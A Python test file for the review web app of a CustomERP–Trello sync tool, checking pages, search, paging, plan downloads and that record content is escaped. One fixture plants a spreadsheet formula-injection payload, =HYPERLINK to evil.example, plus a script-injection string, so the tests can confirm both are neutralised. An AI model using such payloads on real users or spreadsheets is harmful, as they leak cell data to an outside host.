"""What the pages say, and that nothing a record contains gets out of its place."""

from __future__ import annotations

import csv
import html
import io
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote_plus

import pandas as pd
import pytest
from company_state import CONTACTS, CUSTOMERS, RUN, SCRIPT, fill

from customerp_trello.reconcile.plan import make_plan
from customerp_trello.review.app import PREFIX
from customerp_trello.review.words import CAUSES, cause
from customerp_trello.state.conflicts import answer_conflicts, conflicts
from customerp_trello.state.history import Entry, append_history
from customerp_trello.state.plans import Plan, save_plan, set_plan_status
from customerp_trello.state.records import PAGE
from customerp_trello.state.runs import end_run, start_run

HERE = f"/pair/{CUSTOMERS}"
ADDRESSES = ("href", "src", "action", "formaction")


class Page(HTMLParser):
    """The tags and texts of an answer."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.texts, self.scripts = [], [], []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        if data.strip():
            self.texts.append(" ".join(data.split()))

    @property
    def text(self):
        return " ".join(self.texts)


@pytest.fixture
def plan_file(tmp_path):
    """A plan of 120 changes, one of them with formulas and markup."""
    rows = {
        "side": "trello", "operation": "update", "link": 1, "customerp_id": [f"{n:04}" for n in range(120)],
        "trello_id": "t", "key": [f"c{n:04}" for n in range(120)], "property": "name", "before": "old",
        "after": [f"new {n}" for n in range(119)] + ['=HYPERLINK("http://evil.example?"&A1)'],
        "cause": "edited_in_customerp", "detail": SCRIPT, "base_trello": None, "base_customerp": "",
    }  # fmt: skip
    path = tmp_path / "run" / "plan.parquet"
    path.parent.mkdir()
    make_plan([pd.DataFrame(rows)]).to_parquet(path, index=False)
    seen = pd.DataFrame({"_id": ["2000", "5000"], "name": ["Ambiguous AG", "Lone Ltd"], "number": ["c2000", "c5000"]})
    seen.to_parquet(path.with_name("customerp.parquet"), index=False)
    spaces = pd.DataFrame({"_id": ["lone-workspace"], "name": ["Lone"], "number": ["lone"]})
    spaces.to_parquet(path.with_name("trello.parquet"), index=False)
    return str(path)


@pytest.fixture
def company(store, clock, plan_file):
    return fill(store, clock, plan_file)


@pytest.fixture
def anna(browse, company):
    return browse("anna")


def see(browser, path):
    answer = browser.see(path)
    assert answer.status_code == 200, answer.text
    return Page(answer.text)


def test_the_overview_says_how_many_are_what_and_for_how_long(anna):
    text = see(anna, "/").text
    assert "1 of 6 linked records are in sync" in text  # the others: two conflicts, quarantine, not writable, suspended
    assert "Conflicts 2 Conflicts in Custom Customer and Trello organization for" in text
    assert "Quarantined 1" in text
    assert "Not writable 2" in text
    assert "Waiting 1" in text
    assert "Suspended 1" in text
    assert "1 of 1 linked record is in sync" in text
    assert "A plan is held" in text
    assert "42 creates in trello" in text
    assert "never run" in text


def test_a_pair_shows_what_to_do_and_links_to_its_runs_and_logs(anna):
    page = see(anna, HERE)
    assert "Use CustomERP's" in page.text
    assert "Müller + Söhne" in page.text
    assert "Try the chosen again now" in page.text
    assert "Ambiguous AG" in page.text, "its name is in what the last run read"
    hrefs = [attrs.get("href", "") for tag, attrs in page.tags if tag == "a"]
    assert f"/dags/{CUSTOMERS}/runs/manual__1%2B00%3A00/tasks/report" in hrefs
    assert any(href.endswith(f"{HERE}/run/{RUN}") for href in hrefs)
    assert any(tag == "rect" and attrs.get("class") == "k1" for tag, attrs in page.tags)


def test_an_answer_that_waits_is_neither_in_sync_nor_decided(anna, company, store):
    with store.begin() as tx:
        (asked,) = [one for one in conflicts(tx, CUSTOMERS) if one.link == company["müller"]]
        answer_conflicts(tx, CUSTOMERS, [asked.id], "trello", "anna")
    text = see(anna, f"{HERE}/record/{company['müller']}").text
    assert "Müller & Söhne GmbH c1042 answered" in text
    assert "Trello's, says anna; the next run writes it" in text
    assert "Conflicts that were decided" not in text


def test_a_page_that_is_just_full_leads_to_no_empty_one(anna, store, clock):
    with store.begin() as tx:
        for number in range(PAGE - 2):
            clock.forward(seconds=1)
            start_run(tx, CUSTOMERS, dag_id=CUSTOMERS, airflow_run_id=f"more {number}")
    assert "Earlier runs" not in see(anna, f"{HERE}/runs").text
    with store.begin() as tx:
        start_run(tx, CUSTOMERS, dag_id=CUSTOMERS, airflow_run_id="one too many")
    page = see(anna, f"{HERE}/runs")
    assert "Earlier runs" in page.text
    (later,) = [attrs["href"] for tag, attrs in page.tags if tag == "a" and "before=" in attrs.get("href", "")]
    assert "This pair has never run" not in see(anna, later.removeprefix(PREFIX)).text


def test_runs_that_never_ended_do_not_hide_the_one_that_did(anna, store):
    with store.begin() as tx:
        for number in range(6):
            start_run(tx, CUSTOMERS, dag_id=CUSTOMERS, airflow_run_id=f"killed {number}")
    assert "Last successful run" in see(anna, HERE).text
    with store.begin() as tx:
        set_plan_status(tx, "f" * 32, "refused")
    assert "never run" not in see(anna, HERE).text


def test_a_file_that_is_no_plan_is_said_and_the_pages_go_on(anna, plan_file):
    Path(plan_file).write_bytes(b"half of it")
    text = see(anna, f"{HERE}/run/{RUN}/plan").text
    assert "The plan's file cannot be read (ArrowInvalid" in html.unescape(text)
    Path(plan_file).with_name("customerp.parquet").write_bytes(b"half of it")
    assert "2000" in see(anna, HERE).text, "a name is missing, no more"


def test_an_address_that_is_not_used_so_is_refused_as_a_page(anna):
    for path, says in ((f"{HERE}/retry", "not how this address is used"), ("/nothing/here", "There is nothing here")):
        answer = anna.see(path)
        assert answer.headers["content-type"].startswith("text/html")
        assert says in answer.text


def test_a_record_is_shown_on_both_sides_with_its_history(anna, company):
    text = see(anna, f"{HERE}/record/{company['acme']}").text
    assert "Acme Berlin c1043" in text
    assert "Quarantined" in text
    assert "edited in Trello Boris" in text
    assert "Acme Acme Berlin" in text
    addresses = [
        attrs["href"] for tag, attrs in see(anna, f"{HERE}/record/{company['acme']}").tags if "data-outside" in attrs
    ]
    assert addresses == ["https://trello.com/w/c1043"]


def test_every_page_is_there_and_escapes_what_a_record_contains(anna, company):
    paths = ["/", HERE, f"{HERE}?span=day", f"{HERE}/conflicts", f"{HERE}/open/quarantined", f"{HERE}/open/waiting",
             f"{HERE}/open/not_writable", f"{HERE}/not-writable", f"{HERE}/suspended", f"{HERE}/apart", f"{HERE}/runs",
             f"{HERE}/mapping", f"{HERE}/run/{RUN}", f"{HERE}/run/{RUN}/plan", f"{HERE}/run/{RUN}/plan?page=2",
             f"{HERE}/unlinked/2", f"/pair/{CONTACTS}", "/search"]  # fmt: skip
    paths += [f"{HERE}/record/{company[name]}" for name in ("müller", "acme", "script", "suspended", "bakery")]
    shown = 0
    for path in paths:
        answer = anna.see(path)
        assert answer.status_code == 200, path
        assert SCRIPT not in answer.text, path
        page = Page(answer.text)
        scripts = [attrs.get("src", "") for tag, attrs in page.tags if tag == "script"]
        assert all(src.endswith((".js",)) for src in scripts), path
        assert len(scripts) == 2, path
        assert not [attrs for _, attrs in page.tags if any(name.startswith("on") for name in attrs)], path
        shown += html.escape(SCRIPT, quote=False).replace("'", "&#39;") in answer.text
    assert shown >= 6


def test_a_search_finds_by_name_number_address_and_id_and_keeps_it_out_of_the_address(anna):
    for asked, found in {
        "müller": "Müller &amp; Söhne GmbH",
        "1043": "Acme Berlin",
        "nora.lindgren@": "Nora Lindgren",
        f"{1047:024x}": "Bäckerei Ærø",
        "2000": "Ambiguous AG",
        "<script>": html.escape(SCRIPT, quote=False).replace("'", "&#39;"),
    }.items():
        answer = anna.press("/search", text=asked)
        assert answer.status_code == 200
        assert found in answer.text, asked
        assert SCRIPT not in answer.text
        assert asked not in str(answer.url)
        assert "?" not in str(answer.url)
    nothing = anna.press("/search", text="nobody at all").text
    assert "No record is called so" in nothing
    assert "found by their id if something about them is open" in nothing


def test_a_search_shows_nothing_of_pairs_that_the_caller_may_not_see(browse, company):
    assert "Nora Lindgren" not in browse("olga").press("/search", text="nora").text
    assert "Acme Berlin" in browse("olga").press("/search", text="acme").text


def test_no_address_in_any_page_holds_what_a_record_contains(anna, company):
    nora = f"/pair/{CONTACTS}/record/{company['nora']}"
    paths = ["/", HERE, nora, f"/pair/{CONTACTS}", f"/pair/{CONTACTS}/conflicts", f"{HERE}/record/{company['müller']}"]
    paths += [f"{HERE}/{rest}" for rest in ("conflicts", "open/quarantined", "open/waiting", "unlinked/2", "suspended",
              "not-writable", "apart", "runs", f"run/{RUN}", f"run/{RUN}/plan")]  # fmt: skip
    pages = {path: see(anna, path) for path in paths}
    pages |= {f"search {text}": Page(anna.press("/search", text=text).text) for text in ("nora", "müller", "2000")}
    shown = {
        "nordlicht": {nora, "search nora"},
        "lindgren": {nora, "search nora"},
        "müller": {f"{HERE}/conflicts", f"{HERE}/record/{company['müller']}", "search müller"},
        "acme": {f"{HERE}/open/quarantined", f"{HERE}/run/{RUN}"},
        "ambiguous": {f"{HERE}/unlinked/2", f"{HERE}/open/waiting", "search 2000"},
    }
    for word, where in shown.items():
        assert where <= {path for path, page in pages.items() if word in page.text.casefold()}, word
    for path, page in pages.items():
        for tag, attrs in page.tags:
            addresses = [unquote_plus(attrs.get(name) or "").casefold() for name in ADDRESSES]
            assert not [word for word in shown for address in addresses if word in address], (path, tag, attrs)


def test_a_plan_is_paged_and_downloaded_without_formulas(anna):
    first, last = see(anna, f"{HERE}/run/{RUN}/plan"), see(anna, f"{HERE}/run/{RUN}/plan?page=2")
    assert "120 lines" in first.text
    assert "new 49" in first.text
    assert "new 50" not in first.text
    assert "=HYPERLINK" in last.text
    answer = anna.see(f"{HERE}/run/{RUN}/plan.csv")
    assert answer.headers["content-disposition"].startswith("attachment")
    rows = list(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"))))
    assert len(rows) == 121
    assert rows[0][:3] == ["change", "side", "operation"]
    assert rows[-1][rows[0].index("after")] == '\'=HYPERLINK("http://evil.example?"&A1)'
    assert rows[1][rows[0].index("detail")] == SCRIPT
    assert [rows[1][rows[0].index(name)] for name in ("base_trello", "base_customerp")] == ["?", ""]
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]


def test_changes_of_a_run_are_downloaded(anna):
    rows = list(csv.reader(io.StringIO(anna.see(f"{HERE}/run/{RUN}/changes.csv").text.removeprefix("\ufeff"))))
    assert [row[2] for row in rows] == ["operation", "create", "update"]
    assert rows[2][-1] == "Boris"


def test_a_plan_whose_file_is_not_here_says_so(anna):
    held = "f" * 32
    assert "does not share the workers' storage" in html.unescape(anna.see(f"{HERE}/run/{held}/plan").text)
    assert anna.see(f"{HERE}/run/{held}/plan.csv").status_code == 404


def test_a_run_that_wrote_nothing_leads_to_its_plan_which_says_how_to_carry_it_out(anna, store, plan_file):
    seen = "e" * 32
    with store.begin() as tx:
        start_run(tx, CUSTOMERS, dag_id=CUSTOMERS, airflow_run_id="seen", run_id=seen, action="preview")
        end_run(tx, seen, "preview", {"linked": 6, "would update in customerp": 120, "kept": 0})
        save_plan(tx, Plan(seen, CUSTOMERS, "00112233aabbccdd", path=plan_file, counts={"update": 120}))
    for run, says in {
        seen: "action apply_plan and plan 00112233aabbccdd",
        "f" * 32: "customerp_trello__decisions",
    }.items():
        answer = anna.see(f"{HERE}/run/{run}")
        assert answer.status_code == 303
        assert answer.headers["location"].endswith(f"{HERE}/run/{run}/plan")
        text = see(anna, f"{HERE}/run/{run}/plan").text
        assert says in text
        assert "What it did" not in text
    text = see(anna, f"{HERE}/run/{seen}/plan").text
    assert "would update in CustomERP 120" in text
    assert "kept" not in text, "noughts are left out"


@pytest.mark.parametrize(
    ("status", "says"),
    [
        ("failed", "It failed before it changed anything; the report's log says why."),
        ("success", "There was nothing that it could change."),
        ("", "So far."),
    ],
)
def test_a_run_that_changed_nothing_says_why(anna, store, status, says):
    run = "d" * 32
    with store.begin() as tx:
        start_run(tx, CUSTOMERS, dag_id=CUSTOMERS, airflow_run_id="quiet", run_id=run)
        if status:
            end_run(tx, run, status, {"linked": 6})
    assert f"This run changed nothing. {says}" in see(anna, f"{HERE}/run/{run}").text


@pytest.mark.parametrize(
    ("action", "way"), [("sync", "let_through"), ("apply_plan", "apply_plan"), ("undo", "let_through")]
)
def test_a_held_plan_names_the_action_that_lets_it_through(anna, store, action, way):
    run = "d" * 32
    with store.begin() as tx:
        start_run(tx, CUSTOMERS, dag_id=CUSTOMERS, airflow_run_id="later", run_id=run, action=action)
        end_run(tx, run, "held", {"linked": 6})
        save_plan(tx, Plan(run, CUSTOMERS, "00112233aabbccdd", status="held", reasons=["6 updates in trello"]))
    text = see(anna, HERE).text
    assert "Plan 00112233aabbccdd is held since" in text
    assert "nothing was written" not in text, "a sync writes while an undo's plan is held"
    assert f"with action {way} and this plan" in text
    assert f"with action {way} and plan 00112233aabbccdd" in see(anna, f"{HERE}/run/{run}/plan").text


def test_every_reason_for_which_an_undo_keeps_something_has_words(anna):
    kept = {"not_linked", "not_readable", "edited_since", "unknown_before", "invitation", "irreversible"}
    assert kept <= CAUSES.keys()
    assert cause("not_linked: the record is not linked any more") == "not linked: the record is not linked any more"
    assert cause("condition: no address") == "gets no counterpart for now: no address"


def test_an_answer_about_a_plan_is_in_its_runs_history_with_its_author(anna, store):
    held = "f" * 32
    with store.begin() as tx:
        append_history(tx, CUSTOMERS, held, [Entry("", "answer", "plan 1", cause="Let it through", actor="eva")])
    text = see(anna, f"{HERE}/run/{held}").text
    assert "answered the plan Let it through eva" in text
    assert "What it meant to do" in text
    assert "What it did" in see(anna, f"{HERE}/run/{held}/plan").text


def test_a_mapping_that_cannot_be_read_is_said_and_the_rest_goes_on(anna, monkeypatch, tmp_path):
    import shutil

    from customerp_trello.mapping.load import FOLDER_VARIABLE, mappings_folder

    shutil.copytree(mappings_folder(), tmp_path / "mappings")
    monkeypatch.setenv(FOLDER_VARIABLE, str(tmp_path / "mappings"))
    file = tmp_path / "mappings" / f"{CUSTOMERS}.yaml"
    file.write_text(file.read_text().replace("schedule:", "shedule:"))
    text = see(anna, "/").text
    assert "mapping cannot be read" in text
    assert "shedule" in text
    assert "1 of 1 linked record is in sync" in text
    assert anna.see(HERE).status_code == 200
    assert anna.see(f"{HERE}/mapping").status_code == 500


def test_an_empty_state_is_said_in_words(browse, store):
    anna = browse("anna")
    assert "never run" in see(anna, "/").text
    assert "This pair has never run." in see(anna, HERE).text
    assert "No change in this time." in see(anna, HERE).text
    for path, says in {"conflicts": "No conflict waits for you.", "open/quarantined": "Nothing here.",
                       "not-writable": "Everything can be written.", "suspended": "No link is suspended.",
                       "apart": "No records are kept apart.", "runs": "This pair has never run."}.items():  # fmt: skip
        assert says in see(anna, f"{HERE}/{path}").text
